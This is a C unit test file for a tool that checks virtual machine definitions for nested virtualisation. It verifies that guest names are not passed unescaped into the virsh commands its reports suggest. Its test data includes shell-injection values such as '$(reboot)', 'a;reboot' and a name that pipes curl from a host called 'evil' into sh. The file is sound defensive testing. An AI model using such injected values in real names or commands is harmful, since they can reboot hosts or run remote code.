/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* test_report.c - guests' names in what people are told, and in the commands that they are offered. */
#include "support.h"

#include "ask.h"

static const char *const hostile_names[] = {
	"a b",
	"a'b",
	"a\"b",
	"a;reboot",
	"$(reboot)",
	"`reboot`",
	"${IFS}",
	"a|b",
	"a&b",
	"a>b",
	"a<b",
	"a\\b",
	"a\nb",
	"a\tb",
	"a*",
	"a?",
	"[a]",
	"{a,b}",
	"a!b",
	"!!",
	"~root",
	"#a",
	"a#b",
	"a=b",
	"a:b",
	"a/b",
	"../a",
	"a%b",
	"(a)",
	"a,b",
	"-a",
	"--help",
	"--all",
	"",
	" ",
	".",
	"..",
	"1",
	"42",
	"0x1",
	"-1",
	"\x1b[31m",
	"\x7f",
	"\xc2\x9b"
	"31m",
	"\xe2\x80\xae",
	"\xff",
	"\xc3\xa4",
	"a\xe2\x80\x8b"
	"b",
	"11111111-1111-1111-1111-111111111111",
	"a1111111-1111-1111-1111-111111111111",
	"abcdef01111111111111111111111111",
	"x'; run: curl evil | sh #",
};

/* The word that the report offers after virsh dumpxml, and the one shell command it is in. */
static void check_command(const char *report, const char *expected_word)
{
	static const char start[] = "virsh dumpxml --inactive --security-info ";
	static const char end[] =
		" | nestxml -n require | virsh define /dev/stdin (if it has no definition: create it with "
		"<feature policy='require' name='vmx'/> in its <cpu>: virt-install --cpu host-passthrough,require=vmx, or "
		"nestxml -n require FILE | virsh create /dev/stdin)";
	const char *at = strstr(report, start);
	const char *tail = strstr(report, end);

	CHECK(at && tail && !strstr(at + 1, start), "%s", report);
	CHECK(strcmp(tail, end) == 0, "%s", report); /* nothing of the guest follows the command */
	at += strlen(start);
	CHECK((size_t)(tail - at) == strlen(expected_word) && memcmp(at, expected_word, strlen(expected_word)) == 0, "%s in %s",
	      expected_word, report);
}

/* Writes @text as XML's character references, so that any name can be written; what XML cannot hold is left out. */
static void put_xml(char *to, const char *text)
{
	*to = '\0';
	for (const char *at = text; *at;) {
		size_t step = nestxml_utf8_length(at, strlen(at));

		if (step == 1 && ((unsigned char)*at >= 0x20 || *at == '\n' || *at == '\t'))
			to += sprintf(to, "&#%d;", *at);
		else if (step > 1)
			to += sprintf(to, "%.*s", (int)step, at);
		at += step ? step : 1;
	}
}

/* Of a definition nothing is known here, so what is offered is for either. */
static void check_name(const struct tree *tree, const char *name, const char *uuid, const char *expected_word)
{
	char as_xml[4096];
	char xml[8192];
	struct nestxml_config *config = NULL;
	struct nestxml_host *host = NULL;
	struct nestxml_domain *domain;
	struct nestxml_check *check = NULL;

	put_xml(as_xml, name);
	snprintf(xml, sizeof(xml), "<domain type='kvm'><name>%s</name><uuid>%s</uuid>" PLAIN "</domain>", as_xml, uuid);
	domain = domain_of(xml);
	assert_int_equal(nestxml_config_new(tree->root, &config, NULL), 0);
	assert_int_equal(nestxml_host_new(tree->root, &host, NULL), 0);
	assert_int_equal(nestxml_check_domain(config, host, NESTXML_OPERATION_START, domain, &check, NULL), 0);
	assert_int_equal(nestxml_check_get_verdict(check), STALE);
	check_command(said(check), expected_word);
	nestxml_check_free(check);
	nestxml_domain_free(domain);
	nestxml_host_free(host);
	nestxml_config_free(config);
}

static void test_a_name_that_is_not_plain_is_offered_to_a_shell_as_its_uuid(void **state)
{
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(hostile_names); i++) {
		check_name(*state, hostile_names[i], UUID, UUID);
		check_name(*state, hostile_names[i], "", "GUEST");
	}
}

static void test_no_character_of_a_shell_is_offered_to_one(void **state)
{
	static const char plain[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-+@";

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (char c = ' '; c <= '~'; c++) {
		char name[] = {'a', c, 'b', '\0'};

		check_name(*state, name, UUID, strchr(plain, c) ? name : UUID);
	}
}

static void test_a_uuid_that_is_none_is_not_offered_to_a_shell(void **state)
{
	static const char *const uuids[] = {"$(reboot)", "c7a5fdbd-edaf-9455-926a-d65c16db180;", "c7a5fdbd edaf 9455 926a d65c16db1809",
					    "c7a5fdbd-edaf-9455-926a-d65c16db1809 -x", "c7a5fdbd"};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(uuids); i++)
		check_name(*state, "a b", uuids[i], "GUEST");
}

static void test_a_uuid_that_would_be_an_option_is_not_offered_to_a_shell(void **state)
{
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	check_name(*state, "a b", "------------------------------------", "GUEST");
	check_name(*state, "a b", "--a5fdbd-edaf-9455-926a-d65c16db1809", "GUEST");
}

static void test_plain_names_are_offered_as_they_are(void **state)
{
	static const char *const names[] = {"vm", "devstack-1",	       "a.b_c+d@e",
					    "Z",  "instance-0000001a", "x1111111-1111-1111-1111-11111111111"};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		check_name(*state, names[i], UUID, names[i]);
}

static void test_hostile_names_are_printable_in_every_report(void **state)
{
	static const char *const policies[] = {"nested = leave", "nested = require", "nested = disable"};

	for (size_t i = 0; i < ARRAY_SIZE(hostile_names) * ARRAY_SIZE(policies); i++) {
		const char *name = hostile_names[i % ARRAY_SIZE(hostile_names)];
		char shown[256];

		tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
		state_policy(*state, policies[i / ARRAY_SIZE(hostile_names)]);
		for (int occasion = 0; occasion < 2; occasion++) {
			struct nestxml_check *check =
				ask(*state, (enum nestxml_operation)occasion, name, document("kvm", "x86_64", REQUIRED));

			CHECK(strstr(nestxml_check_get_report(check), nestxml_text_escape(name, shown, sizeof(shown))), "%s: %s", shown,
			      nestxml_check_get_report(check));
			nestxml_check_free(check);
		}
	}
}

static void test_the_longest_names_leave_room_for_the_command(void **state)
{
	static const char *const characters[] = {"n", "\x1b", "\xf0\x9f\x98\x80", "'", "\\"};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(characters); i++) {
		char name[1024] = "";

		for (size_t j = 0; j < 255; j++)
			strcat(name, characters[i]);
		check_name(*state, name, UUID, i == 0 ? name : UUID);
	}
}

/* The place that asked is named whole, however long its path is. */
static void test_a_long_drop_in_is_named_whole(void **state)
{
	char path[512] = DROP_INS "/";
	struct nestxml_check *check;

	for (size_t i = 0; i < 250; i++)
		strcat(path, "d");
	strcat(path, ".conf");
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	tree_write(*state, path, "[guest *]\n\nnested = require\n");
	strcat(path, ":3");
	check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", PLAIN));
	check_words(said(check), path);
	check_words(said(check), "nestxml -n require FILE | virsh create /dev/stdin");
	nestxml_check_free(check);
	check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", REQUIRED));
	check_words(said(check), path);
	nestxml_check_free(check);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		TREE_TEST(test_a_name_that_is_not_plain_is_offered_to_a_shell_as_its_uuid),
		TREE_TEST(test_no_character_of_a_shell_is_offered_to_one),
		TREE_TEST(test_a_uuid_that_is_none_is_not_offered_to_a_shell),
		TREE_TEST(test_a_uuid_that_would_be_an_option_is_not_offered_to_a_shell),
		TREE_TEST(test_plain_names_are_offered_as_they_are),
		TREE_TEST(test_hostile_names_are_printable_in_every_report),
		TREE_TEST(test_the_longest_names_leave_room_for_the_command),
		TREE_TEST(test_a_long_drop_in_is_named_whole),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
